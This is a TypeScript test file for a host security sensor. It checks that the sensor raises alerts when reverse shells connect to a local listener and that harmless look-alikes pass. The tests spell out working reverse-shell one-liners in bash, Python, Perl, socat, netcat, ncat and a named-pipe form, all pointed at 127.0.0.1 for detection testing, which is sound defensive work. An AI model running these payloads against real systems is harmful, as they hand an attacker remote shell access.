import { spawn, spawnSync } from 'node:child_process'
import { once } from 'node:events'
import { mkdtempSync, rmSync } from 'node:fs'
import { type AddressInfo, createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { needs } from '../setup/needs.ts'
import { endLeftovers } from '../setup/running.ts'
import { sensorBinary } from '../setup/sensor.ts'
import { type WatchedNode, watchNode } from './watched-node.ts'

const { path: sensor, otherwise } = sensorBinary()

const PYTHON =
  'import os,socket,subprocess; s=socket.create_connection(("127.0.0.1",PORT)); [os.dup2(s.fileno(),i) for i in range(3)]; subprocess.call(["sh","-i"])'
const PERL =
  'use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,sockaddr_in(PORT,inet_aton("127.0.0.1"))) or die; open(STDIN,"<&S"); open(STDOUT,">&S"); open(STDERR,">&S"); exec("sh","-i")'

const CONNECTED = 'Shell Connected To The Network'
const EXECUTES = 'Network Program Executes Commands'
const BEHIND_PIPE = 'Interactive Shell Behind A Pipe'

/** Shells of this machine, in no container, that whoever listens on loopback has; and what is none of them. */
describe('reverse shells on a node', needs(sensor, otherwise), () => {
  let folder = ''
  let node: WatchedNode
  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'haetae-reverse-'))
    node = await watchNode(sensor ?? '', [])
  })
  afterAll(async () => {
    await node?.stop()
    endLeftovers()
    rmSync(folder, { recursive: true, force: true })
  })

  /** Runs a command that connects to a port of ours, where the other side tells the shell to end. */
  async function run(command: readonly string[]): Promise<number> {
    const server = createServer((socket) => {
      socket.on('error', () => undefined)
      socket.resume().end('exit\n')
    })
    server.listen(0, '127.0.0.1')
    await once(server, 'listening')
    const { port } = server.address() as AddressInfo
    try {
      const [program = '', ...args] = command.map((word) => word.replaceAll('PORT', String(port)))
      const child = spawn(program, args, { cwd: folder, stdio: 'ignore' })
      await once(child, 'exit')
    } finally {
      server.close()
    }
    return port
  }

  const has = (program: string) => spawnSync('sh', ['-c', `command -v ${program}`]).status === 0
  const without = (program: string) => `there is no ${program}`

  test.each([
    ['bash', ['bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1']],
    ['python3', ['python3', '-c', PYTHON]],
    ['perl', ['perl', '-e', PERL]],
  ] as const)('by %s', async (_, command) => {
    const port = await run(command)
    const alert = await node.alert(CONNECTED, ({ output }) => output.includes(`->127.0.0.1:${port}`))
    expect(alert).toMatchObject({ priority: 'Critical', output_fields: { 'container.id': 'host' } })
  })

  test('by socat, which executes a shell', needs(has('socat'), without('socat')), async () => {
    const port = await run(['socat', 'TCP:127.0.0.1:PORT', 'EXEC:sh'])
    await node.alert(EXECUTES, ({ output }) => output.includes(`:${port}`))
  })

  describe('by nc.traditional', needs(has('nc.traditional'), without('nc.traditional')), () => {
    // It becomes the shell, with the connection as its standard input.
    test.each([
      ['with -e', ['127.0.0.1', 'PORT', '-e', '/bin/sh']],
      ['with -e among others', ['-nve/bin/sh', '127.0.0.1', 'PORT']],
      ['with -c', ['-c', 'exec sh', '127.0.0.1', 'PORT']],
    ] as const)('%s', async (_, args) => {
      const port = await run(['nc.traditional', ...args])
      await node.alert(EXECUTES, ({ output }) => output.includes(`127.0.0.1 ${port}`))
      await node.alert(CONNECTED, ({ output }) => output.includes(`->127.0.0.1:${port}`))
    })
  })

  describe('by ncat', needs(has('ncat'), without('ncat')), () => {
    // It stays between the shell and the connection, with a pipe for each.
    test.each([
      ['with -e', ['-e', '/bin/sh', '127.0.0.1', 'PORT']],
      ['with --sh-exec', ['--sh-exec=sh', '127.0.0.1', 'PORT']],
    ] as const)('%s', async (_, args) => {
      const port = await run(['ncat', ...args])
      await node.alert(EXECUTES, ({ output }) => output.includes(`127.0.0.1 ${port}`))
    })
  })

  test('by a named pipe', async () => {
    // The shell that starts the other one is told apart by what it was given.
    const script =
      'mkfifo pipe; (exec 3<>/dev/tcp/127.0.0.1/PORT; cat <&3 > pipe) & cat pipe | sh -p -i 2>&1 | cat; wait'
    await run(['bash', '-c', script])
    await node.alert(BEHIND_PIPE, ({ output }) => output.includes('command=sh -p -i parent=bash'))
  })

  test('what only looks like one is left alone', async () => {
    const server =
      'import os,socket,sys; s=socket.create_connection(("127.0.0.1",int(sys.argv[1]))); os.dup2(s.fileno(),0)'
    spawnSync('sh', ['-c', `echo '${server}' > server.py; echo : > handler.sh`], { cwd: folder })
    const ports = [
      await run(['bash', '-c', '</dev/tcp/127.0.0.1/PORT']),
      await run(['bash', '-c', 'exec 3<>/dev/tcp/127.0.0.1/PORT; sh handler.sh <&3']),
      await run(['python3', 'server.py', 'PORT']),
    ]
    spawnSync('bash', ['-c', 'true | bash -i ./handler.sh; exit'], { cwd: folder })
    // What comes behind them has been seen.
    const last = await run(['bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1'])
    await node.alert(CONNECTED, ({ output }) => output.includes(`->127.0.0.1:${last}`))
    const looksAlike = [...ports.map((port) => `:${port}`), 'command=bash -i ./handler.sh']
    const raised = node.alerts().filter(({ output }) => looksAlike.some((part) => output.includes(part)))
    expect(raised.map(({ output }) => output)).toEqual([])
  })
})
